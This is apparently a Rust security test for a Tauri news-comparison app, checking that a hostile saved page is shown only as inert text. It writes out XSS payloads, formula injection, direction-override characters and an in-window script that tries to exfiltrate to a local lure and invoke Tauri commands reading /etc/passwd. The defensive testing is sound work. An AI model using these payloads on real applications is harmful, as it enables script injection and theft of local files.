//! A saved page that tries everything (`tests/hostile`), in the real window: it is shown as text, changes nothing and asks for nothing;
//! and what the window itself could not do if a page's script ran in it.

use std::io::{Read, Write};
use std::net::TcpListener;
use std::sync::PoisonError;
use std::sync::mpsc::{Receiver, channel};
use std::time::Duration;

use serde_json::json;

use crate::desktop::Desktop;
use crate::driver::Window;
use crate::{ALONE, picture};

/// The address that the hostile page names everywhere; every request that comes is noted.
struct Lure {
    port: u16,
    asked: Receiver<String>,
}

impl Lure {
    fn lay() -> Self {
        let listener = TcpListener::bind("127.0.0.1:0").unwrap();
        let port = listener.local_addr().unwrap().port();
        let (sender, asked) = channel();
        std::thread::spawn(move || {
            for mut stream in listener.incoming().flatten() {
                let mut start = [0; 300];
                let _ = stream.set_read_timeout(Some(Duration::from_secs(1)));
                let n = stream.read(&mut start).unwrap_or(0);
                let _ = sender.send(String::from_utf8_lossy(&start[..n]).into_owned());
                let _ = stream.write_all(b"HTTP/1.1 200 OK\r\nContent-Length: 0\r\nAccess-Control-Allow-Origin: *\r\n\r\n");
            }
        });
        Self { port, asked }
    }

    fn assert_untouched(&self, when: &str) {
        assert_eq!(self.asked.try_iter().collect::<Vec<_>>(), Vec::<String>::new(), "{when}");
    }
}

/// Everything that is drawn, the report's page included, and what in it could load or run something.
const DRAWN: &str = "
const roots = [document, ...[...document.querySelectorAll('*')].map((e) => e.shadowRoot).filter(Boolean)];
const all = roots.flatMap((r) => [...r.querySelectorAll('*')]);
const own = (value) => /^(\\/|\\.\\/|#|tauri:|$)/.test(value);
const loading = ['src', 'href', 'srcset', 'data', 'poster', 'action', 'background', 'srcdoc', 'xlink:href'];
const bad = all.flatMap((e) => [...e.attributes]
  .filter((a) => a.name.startsWith('on') || loading.includes(a.name) && !own(a.value) || /url\\(|javascript:/.test(a.value) && a.name === 'style')
  .map((a) => e.tagName + ' ' + a.name + '=' + a.value.slice(0, 80)));
const foreign = all.filter((e) => ['IFRAME', 'OBJECT', 'EMBED', 'VIDEO', 'AUDIO', 'BASE', 'FORM' ].includes(e.tagName) && !e.closest('dialog, .panel, [role=search]')).map((e) => e.tagName);
return {
  text: roots.map((r) => (r.body ?? r).textContent).join('\\n'),
  labels: all.flatMap((e) => [...e.attributes].map((a) => a.value)).join('\\n'),
  bad, foreign, scripts: document.scripts.length, title: document.title, at: location.href, violations: window.violations ?? null,
};";

/// Characters that can't be seen, or that turn directions.
fn unseen(text: &str) -> Option<char> {
    text.chars()
        .find(|&c| c.is_control() && !matches!(c, '\n' | '\r' | '\t') || matches!(c, '\u{202a}'..='\u{202e}' | '\u{2066}'..='\u{2069}'))
}

fn assert_inert(window: &Window, lure: &Lure, screen: &str) -> String {
    assert!(!window.has_alert(), "{screen}");
    let drawn = window.script(DRAWN, &[]);
    let text = drawn["text"].as_str().unwrap_or_else(|| panic!("{screen}: {drawn}")).to_owned();
    assert_eq!(unseen(&text), None, "{screen}");
    assert_eq!(unseen(drawn["labels"].as_str().unwrap()), None, "{screen}");
    assert_eq!((&drawn["bad"], &drawn["foreign"], &drawn["violations"]), (&json!([]), &json!([]), &json!([])), "{screen}");
    assert_eq!(drawn["scripts"], 1, "{screen}");
    // The window is called after the event, as always, and nothing else.
    let title = drawn["title"].as_str().unwrap();
    assert!(title.starts_with("=HYPERLINK(") && title.ends_with(" – Crosscheck") && !title.contains("owned"), "{screen}: {title}");
    assert!(drawn["at"].as_str().unwrap().starts_with("tauri://localhost"), "{screen}: {drawn}");
    lure.assert_untouched(screen);
    text
}

#[test]
fn a_hostile_page_is_shown_as_text_and_changes_nothing() {
    let _alone = ALONE.lock().unwrap_or_else(PoisonError::into_inner);
    let desktop = Desktop::start();
    let lure = Lure::lay();
    let window = desktop.app();
    window.see("drop-area");
    window.script("window.violations = []; addEventListener('securitypolicyviolation', (e) => violations.push(e.violatedDirective + ' ' + e.blockedURI))", &[]);
    let page = include_str!("../hostile/skarne-courier.html")
        .replace("{{PORT}}", &lure.port.to_string())
        .replace("{{HUGE}}", &"A\u{202e}&quot;".repeat(200_000));
    let files = [
        desktop.file("skarne \u{202e}lmth.html", page.as_bytes()),
        desktop.file("meridian-wire.md", include_bytes!("../hostile/meridian-wire.md")),
    ];
    desktop.drag(&files);
    window.wait("both", "document.querySelectorAll('[data-testid=file-outcome][data-state=imported]').length === 2", &[]);
    window.wait("marks", "document.querySelectorAll('[data-testid=mark]').length > 2", &[]);
    let told = assert_inert(&window, &lure, "reading");
    assert!(told.contains("=HYPERLINK(") && told.contains("<img src=x onerror="), "it is shown, as text");
    assert!(told.contains('\u{fffd}'), "what can't be seen shows in its place");
    picture(&window, "11-hostile-page");

    for tab in ["grid", "differences", "only", "quotes", "origins", "source"] {
        window.script("document.querySelector('#tab-' + arguments[0]).click()", &[json!(tab)]);
        window.wait(tab, "document.querySelector('#tab-' + a[0])?.getAttribute('aria-selected') === 'true'", &[json!(tab)]);
        std::thread::sleep(Duration::from_millis(600));
        assert_inert(&window, &lure, tab);
    }
    let warned = "[...document.querySelectorAll('*')].some((e) => e.children.length === 0 && /pass itself off as .Skarne Courier/.test(e.textContent))";
    window.wait("the outlet's name is warned of", warned, &[]);
    window.wait("hidden characters are warned of", "/can.t be seen/.test(document.body.textContent)", &[]);
    picture(&window, "12-hostile-page-read");
    window.script("document.activeElement?.blur(); document.body.dispatchEvent(new KeyboardEvent('keydown', { key: 'e', ctrlKey: true, bubbles: true, cancelable: true }))", &[]);
    window.see("report-preview");
    window.wait("the report", "[...document.querySelectorAll('*')].some((e) => e.shadowRoot?.querySelector('h2'))", &[]);
    let report = assert_inert(&window, &lure, "report");
    assert!(report.contains("=HYPERLINK("));
    assert_eq!(desktop.windows_named("owned"), 0);
    assert!(desktop.windows_named("Crosscheck") > 0);

    // Were a script to run in the window all the same: it reaches nobody, and Tauri gives it nothing.
    let tries = "
const [port, commands] = arguments;
const to = 'http://127.0.0.1:' + port + '/';
const reached = [];
const attempt = async (name, act) => { try { await act(); reached.push(name); } catch {} };
const loads = (element, source) => new Promise((yes, no) => { element.onload = yes; element.onerror = no; element.src = source; document.head.append(element); setTimeout(no, 1500); });
(async () => {
  await attempt('fetch', () => fetch(to + 'fetch'));
  await attempt('fetch without CORS', () => fetch(to + 'nocors', { mode: 'no-cors' }));
  await attempt('image', () => loads(document.createElement('img'), to + 'image'));
  await attempt('script', () => loads(document.createElement('script'), to + 'script'));
  await attempt('frame', () => { const f = document.createElement('iframe'); return loads(f, to + 'frame').then(() => { if (f.contentDocument) throw 0; }); });
  await attempt('beacon', () => { if (!navigator.sendBeacon(to + 'beacon')) throw 0; });
  await attempt('socket', () => new Promise((yes, no) => { const s = new WebSocket('ws://127.0.0.1:' + port + '/socket'); s.onopen = yes; s.onerror = no; setTimeout(no, 1500); }));
  await attempt('inline script', () => { window.ran = false; const s = document.createElement('script'); s.textContent = 'window.ran = true'; document.head.append(s); if (!window.ran) throw 0; });
  await attempt('open', () => { if (!window.open(to + 'open')) throw 0; });
  await attempt('form', () => { const f = document.createElement('form'); f.action = to + 'form'; document.body.append(f); f.submit(); f.remove(); throw 0; });
  for (const command of commands) await attempt(command, () => window.__TAURI_INTERNALS__.invoke(command, { path: '/etc/passwd', event: 'x', url: to }));
  done(reached);
})();";
    let commands = [
        "plugin:event|emit",
        "plugin:event|emit_to",
        "plugin:window|create",
        "plugin:window|set_title",
        "plugin:window|close",
        "plugin:webview|create_webview_window",
        "plugin:webview|print",
        "plugin:dialog|open",
        "plugin:dialog|save",
        "plugin:dialog|message",
        "plugin:path|resolve_directory",
        "plugin:app|version",
        "plugin:menu|new",
        "plugin:image|from_path",
        "plugin:resources|close",
        "plugin:window-state|restore_state",
        "plugin:shell|open",
        "plugin:fs|read_text_file",
        "plugin:http|fetch",
    ];
    let reached = window.script_async(tries, &[json!(lure.port), json!(commands)]);
    // A beacon is taken for sending and stopped on its way: whether anything came is what counts.
    let reached: Vec<&str> = reached.as_array().into_iter().flatten().filter_map(|r| r.as_str()).filter(|r| *r != "beacon").collect();
    assert_eq!(reached, Vec::<&str>::new());
    window.script("location.assign('http://127.0.0.1:' + arguments[0] + '/away')", &[json!(lure.port)]);
    std::thread::sleep(Duration::from_millis(800));
    let at = window.script("return location.href", &[]);
    assert!(at.as_str().is_some_and(|a| a.starts_with("tauri://localhost")), "{at}");
    lure.assert_untouched("by a script of the window");
}

/// The same page as its outlet changed it: what was changed tries the same again.
fn changed(page: &str) -> String {
    let told = "<meta property=\"article:published_time\" content=\"2026-05-04T12:00:00Z\">";
    let changes = [
        (
            told,
            "<meta property=\"article:published_time\" content=\"2026-05-04T12:00:00Z\"><meta property=\"article:modified_time\" content=\"2026-05-04T21:30:00Z\">",
        ),
        ("Nine people were injured", "Eleven people were injured"),
        ("212 passengers</a>", "213 &lt;b onclick=\"document.title='owned'\"&gt;passengers&lt;/b&gt;</a>"),
        ("&#x202e;noon&#x202c;", "&#x202e;one o'clock&#x202c;&#x1b;[2J"),
        (
            "<p>Pictures are at",
            "<p>&lt;svg onload=\"document.title='owned'\"&gt; The harbour master, Olga &#x2067;Brandt&#7;, said &lt;iframe srcdoc=x&gt; that divers would look at the hull on Tuesday.</p>\n<p>Pictures are at",
        ),
    ];
    changes.iter().fold(page.to_owned(), |page, (from, to)| {
        assert!(page.contains(from), "{from}");
        page.replacen(from, to, 1)
    })
}

#[test]
fn a_hostile_page_is_as_inert_among_its_versions_and_in_what_speaks_for_a_difference() {
    let _alone = ALONE.lock().unwrap_or_else(PoisonError::into_inner);
    let desktop = Desktop::start();
    let lure = Lure::lay();
    let window = desktop.app();
    window.see("drop-area");
    window.script("window.violations = []; addEventListener('securitypolicyviolation', (e) => violations.push(e.violatedDirective + ' ' + e.blockedURI))", &[]);
    let page = include_str!("../hostile/skarne-courier.html").replace("{{PORT}}", &lure.port.to_string()).replace("{{HUGE}}", "x");
    let files = [
        desktop.file("skarne.html", page.as_bytes()),
        desktop.file("skarne-evening.html", changed(&page).as_bytes()),
        desktop.file("meridian-wire.md", include_bytes!("../hostile/meridian-wire.md")),
    ];
    desktop.drag(&files);
    window.wait("three", "document.querySelectorAll('[data-testid=file-outcome][data-state=imported]').length === 3", &[]);
    window.wait("marks", "document.querySelectorAll('[data-testid=mark]').length > 2", &[]);
    window.script("document.querySelector('[aria-label=Imports] [aria-label=Close]')?.click()", &[]);

    // What was added, cut and changed, and that by key.
    window.script("document.querySelector('#tab-versions').click()", &[]);
    window.wait("passages", "document.querySelectorAll('[data-testid=version-passage]').length > 2", &[]);
    let told = assert_inert(&window, &lure, "versions");
    assert!(told.contains("<svg onload=") && told.contains("<b onclick=") && told.contains("<iframe srcdoc=x>"), "as text: {told}");
    let marked = window.texts("version-passage ins").join(" ");
    assert!(marked.contains("Eleven") && marked.contains("<b onclick="), "{marked}");
    assert!(told.contains('\u{fffd}'), "what can't be seen shows in its place");
    window.script("document.querySelector('[data-testid=show-kept]').click()", &[]);
    for _ in 0..3 {
        window.press("j");
    }
    window.wait("the third", "/^3 of/.test(document.querySelector('[data-testid=edit-counter]').textContent)", &[]);
    assert_inert(&window, &lure, "versions, all of them");
    picture(&window, "13-hostile-versions");

    // What speaks for each difference, with its words lit in the sentences.
    window.script("document.querySelector('#tab-reading').click(); document.activeElement?.blur()", &[]);
    window.press("j");
    window.wait("the first", "/^1 of/.test(document.querySelector('[data-testid=difference-counter]')?.textContent ?? '')", &[]);
    window.press("w");
    let (_, all) = crate::counter(&window);
    assert!(all >= 3, "{all}");
    for at in 1..=all {
        window.wait(
            "its place",
            "document.querySelector('[data-testid=difference-counter]').textContent === a[0]",
            &[json!(format!("{at} of {all}"))],
        );
        window.see("why-chip");
        window.script("document.querySelectorAll('[data-testid=why-chip]').forEach((chip) => chip.click())", &[]);
        std::thread::sleep(Duration::from_millis(200));
        assert_inert(&window, &lure, &format!("what speaks for difference {at}"));
        if at == 1 {
            picture(&window, "14-hostile-evidence");
        }
        window.script("document.activeElement?.blur()", &[]);
        window.press("j");
    }
    // And of a sentence that tries to be a formula.
    window.press("\u{e00c}");
    window.script("[...document.querySelectorAll('[data-testid=sentence]')].find((s) => s.dataset.status !== 'differ' && s.textContent.includes('=cmd')).querySelector('.glyph').click()", &[]);
    window.see("sentence-detail");
    assert_inert(&window, &lure, "a sentence's own panel");
    assert_eq!(desktop.windows_named("owned"), 0);
}
